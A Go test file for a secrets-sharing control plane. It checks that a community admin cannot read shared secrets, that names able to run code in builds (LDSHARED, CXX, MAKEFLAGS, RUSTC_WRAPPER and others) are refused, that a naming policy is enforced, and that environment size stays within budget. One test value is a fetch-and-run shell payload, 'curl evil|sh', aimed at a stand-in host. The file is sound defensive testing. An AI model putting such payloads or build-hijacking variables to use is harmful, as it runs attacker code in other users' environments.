package controlplane

import (
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/hashicorp/go-hclog"

	"github.com/nbsecrets/nbsecrets/protocol"
)

// TestCommunityAdminCannotReadShares performs issue 9's finding 5: an admin
// of a community who is in none of its projects clones a secret shared with
// the community to read its value. He is refused, nothing is written, and
// his workspace gets nothing; he may still list the share's name and
// withdraw it, which is what administering a community is for. A member of
// a project the share reaches still clones it.
func TestCommunityAdminCannotReadShares(t *testing.T) {
	f := newWorld(t)
	ctx := ctxT(t)
	// carol administers community "other" (project vision) and is in no
	// project; dave, vision's admin, administers it too.
	for i := range f.dir.Communities {
		if f.dir.Communities[i].ID == "other" {
			f.dir.Communities[i].Admins = append(f.dir.Communities[i].Admins, "dave")
		}
	}
	f.setDir()
	dave, carol, erin := f.client("dave"), f.client("carol"), f.client("erin")
	sec, err := dave.Create(ctx, "VISION_TOKEN", []byte("vision-only-value"), CreateOptions{Project: "vision"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dave.Share(ctx, "VISION_TOKEN", "other"); err != nil {
		t.Fatal(err)
	}

	before := f.lastSeqs()
	_, err = carol.Clone(ctx, "VISION_TOKEN", "CAROLS_COPY", nil)
	if !errors.Is(err, ErrForbidden) || !strings.Contains(err.Error(), "reaches none of carol's workspaces") {
		t.Fatalf("community admin's clone: %v, want forbidden", err)
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("the refused clone wrote: %v -> %v", before, after)
	}
	if !strings.Contains(f.logs.String(), "reaches none of carol's workspaces") {
		t.Error("the refused clone was not logged")
	}
	f.wantGone("ws-carol", sec.ID)

	// What administering the community grants: its names, and unshare.
	list, err := carol.List(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(list, func(i SecretInfo) bool { return i.ID == sec.ID && i.Via == "other" }) {
		t.Fatalf("carol's list does not show the share's name: %+v", list)
	}

	// A member whose workspace the secret reaches clones it.
	cl, err := erin.Clone(ctx, "VISION_TOKEN", "ERINS_COPY", nil)
	if err != nil {
		t.Fatal(err)
	}
	f.wantPut("ws-erin", cl.ID, 1, "vision-only-value")

	if _, err := carol.Unshare(ctx, "VISION_TOKEN", "other"); err != nil {
		t.Fatalf("community admin unshare: %v", err)
	}
}

// restartWith replaces the fixture's service with one that has the name
// policy names.
func (f *fixture) restartWith(names NamePolicy) {
	f.t.Helper()
	if err := f.svc.Stop(); err != nil {
		f.t.Fatal(err)
	}
	logger := hclog.New(&hclog.LoggerOptions{Level: hclog.Trace, Output: f.logs})
	svc, err := New(Options{Conn: f.nc, SignKey: f.sign, CurveKey: f.curve, Directory: f.dir, Logger: logger, Names: names})
	if err != nil {
		f.t.Fatal(err)
	}
	ctx := ctxT(f.t)
	if err := svc.Start(ctx); err != nil {
		f.t.Fatal(err)
	}
	f.t.Cleanup(func() {
		if err := svc.Stop(); err != nil {
			f.t.Error(err)
		}
	})
	f.svc = svc
}

// TestSharedNamesThatRunCode performs issue 9's finding 3 against the
// service: a project member creates LDSHARED (and the other names the
// review found) in the project, or renames or clones a secret to one of
// them, so that the next C-extension build in another member's kernel runs
// his command. Each is refused, names the class, and writes nothing.
func TestSharedNamesThatRunCode(t *testing.T) {
	f := newFixture(t)
	ctx := ctxT(t)
	bob := f.client("bob")
	if _, err := bob.Create(ctx, "BOB_TOKEN", []byte("t"), CreateOptions{Project: "ml"}); err != nil {
		t.Fatal(err)
	}
	before := f.lastSeqs()
	for _, name := range []string{"LDSHARED", "CXX", "MAKEFLAGS", "PYSPARK_SUBMIT_ARGS", "OPENAI_BASE_URL", "DOCKER_HOST", "RUSTC_WRAPPER"} {
		_, err := bob.Create(ctx, name, []byte("sh -c 'curl evil|sh' #"), CreateOptions{Project: "ml"})
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "reserved") {
			t.Errorf("create %s in ml: %v, want refused as reserved", name, err)
		}
		if _, err := bob.Update(ctx, "BOB_TOKEN", nil, Rename(name)); !errors.Is(err, ErrInvalid) {
			t.Errorf("rename to %s: %v, want refused", name, err)
		}
		if _, err := bob.Clone(ctx, "BOB_TOKEN", name, nil, ToProject("ml")); !errors.Is(err, ErrInvalid) {
			t.Errorf("clone to %s: %v, want refused", name, err)
		}
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("refused names wrote: %v -> %v", before, after)
	}
}

// TestSharedNamePolicy: a platform that does not trust project members to
// name what reaches each other's kernels requires a pattern of shared
// names, or lets only admins name them. Private secrets are not affected.
func TestSharedNamePolicy(t *testing.T) {
	f := newWorld(t)
	ctx := ctxT(t)
	f.restartWith(NamePolicy{SharedPattern: regexp.MustCompile(`^TEAM_[A-Z0-9_]+$`), AdminsNameShared: true})
	alice, bob := f.client("alice"), f.client("bob")
	before := f.lastSeqs()
	refused := []struct {
		what string
		err  error
		why  string
	}{
		{"member creates a matching name", func() error {
			_, err := bob.Create(ctx, "TEAM_KEY", []byte("v"), CreateOptions{Project: "ml"})
			return err
		}(), "only an admin of project \"ml\" names its secrets"},
		{"admin creates a name outside the pattern", func() error {
			_, err := alice.Create(ctx, "SOME_TOOL_SETTING", []byte("v"), CreateOptions{Project: "ml"})
			return err
		}(), "does not match the pattern"},
		{"member clones into the project", func() error {
			_, err := bob.Clone(ctx, "NOPE", "TEAM_COPY", []byte("v"), ToProject("ml"))
			return err
		}(), ""},
	}
	for _, r := range refused {
		if r.err == nil || r.why != "" && !strings.Contains(r.err.Error(), r.why) {
			t.Errorf("%s: %v, want refused saying %q", r.what, r.err, r.why)
		}
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("refused requests wrote: %v -> %v", before, after)
	}
	sec, err := alice.Create(ctx, "TEAM_KEY", []byte("v"), CreateOptions{Project: "ml"})
	if err != nil {
		t.Fatalf("admin, matching name: %v", err)
	}
	if _, err := alice.Update(ctx, "TEAM_KEY", nil, Rename("RENAMED_KEY")); !errors.Is(err, ErrForbidden) {
		t.Errorf("rename outside the pattern: %v", err)
	}
	if _, err := bob.Create(ctx, "ANY_PRIVATE_NAME", []byte("v"), CreateOptions{}); err != nil {
		t.Errorf("private secrets are not under the policy: %v", err)
	}
	// A private secret shared with a community takes the pattern too.
	if _, err := alice.Create(ctx, "PRIVATE_KEY", []byte("v"), CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := alice.Share(ctx, "PRIVATE_KEY", "research"); !errors.Is(err, ErrForbidden) {
		t.Errorf("share a name outside the pattern: %v", err)
	}
	if _, err := alice.Share(ctx, "TEAM_KEY", "research"); err != nil {
		t.Errorf("share a matching name: %v", err)
	}
	f.wantScope("ws-erin", sec.ID, scopeResearch)
}

// TestWorkspaceBudget performs issue 9's finding 4 against the service: a
// project member pushes 64 KiB project secrets until the environment of
// every kernel in the project would pass ARG_MAX. The one that would take
// the project's workspaces over the budget is refused, naming them; so are
// an update that grows a value, a clone and a share that would.
func TestWorkspaceBudget(t *testing.T) {
	f := newWorld(t)
	ctx := ctxT(t)
	bob, alice, dave := f.client("bob"), f.client("alice"), f.client("dave")
	big := []byte(strings.Repeat("v", protocol.MaxValueSize))
	fit := protocol.MaxWorkspaceEnvBytes / protocol.EnvSize("BIG_0", len(big))
	for i := range fit {
		if _, err := bob.Create(ctx, fmt.Sprintf("BIG_%d", i), big, CreateOptions{Project: "ml"}); err != nil {
			t.Fatalf("secret %d of %d that fit: %v", i+1, fit, err)
		}
	}
	small, err := bob.Create(ctx, "SMALL", []byte("s"), CreateOptions{Project: "ml"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dave.Create(ctx, "DAVE_BIG", big, CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	before := f.lastSeqs()
	for what, err := range map[string]error{
		"create": func() error { _, err := bob.Create(ctx, "ONE_TOO_MANY", big, CreateOptions{Project: "ml"}); return err }(),
		"update": func() error { _, err := bob.Update(ctx, "SMALL", big); return err }(),
		"clone":  func() error { _, err := alice.Clone(ctx, "BIG_0", "BIG_COPY", nil, ToProject("ml")); return err }(),
		"private clone": func() error {
			_, err := alice.Clone(ctx, "BIG_0", "BIG_COPY", nil)
			return err
		}(),
	} {
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "over the budget") || !strings.Contains(err.Error(), "ws-alice") {
			t.Errorf("%s: %v, want refused naming ws-alice", what, err)
		}
	}
	// Sharing dave's big secret with research would take ml's workspaces
	// over: refused, naming them and not vision's.
	_, err = dave.Share(ctx, "DAVE_BIG", "research")
	if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "ws-bob") || strings.Contains(err.Error(), "ws-erin") {
		t.Errorf("share: %v, want refused naming ws-bob and not ws-erin", err)
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("refused requests wrote: %v -> %v", before, after)
	}
	// Shrinking a value, and an update that stays within the budget, work.
	if _, err := bob.Update(ctx, "BIG_0", []byte("small now")); err != nil {
		t.Fatal(err)
	}
	if _, err := bob.Update(ctx, "SMALL", []byte("still small")); err != nil {
		t.Fatal(err)
	}
	f.wantPut("ws-alice", small.ID, 2, "still small")
}
